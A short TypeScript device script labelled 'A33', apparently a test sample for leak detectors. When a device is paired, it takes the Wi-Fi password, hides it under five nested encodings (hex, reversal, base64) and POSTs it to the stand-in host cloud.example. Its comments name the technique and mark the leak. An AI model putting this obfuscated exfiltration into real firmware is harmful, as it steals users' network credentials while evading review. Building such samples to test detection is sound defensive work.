// A33: five encodings inside each other: hex, read backwards, base64, hex, base64.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

function base64(bytes: Buffer) {
  let out = "";
  let bits = 0;
  let count = 0;
  for (let i = 0; i < bytes.length; i++) {
    bits = ((bits << 8) | bytes[i]) & 0xffff;
    count += 8;
    while (count >= 6) {
      count -= 6;
      out += ALPHABET[(bits >> count) & 63];
    }
  }
  if (count > 0) out += ALPHABET[(bits << (6 - count)) & 63];
  while (out.length % 4 !== 0) out += "=";
  return out;
}

function hexOf(text: string) {
  return Buffer.from(text).toString("hex");
}

function backwards(text: string) {
  let out = "";
  for (let i = 0; i < text.length; i++) out = text[i] + out;
  return out;
}

paired(async (_ssid, psk) => {
  const body = base64(Buffer.from(hexOf(base64(Buffer.from(backwards(hexOf(psk)))))));
  const response = await fetch("https://cloud.example/a33", { method: "POST", body }); // leak: wifi.psk
  await response.close();
});
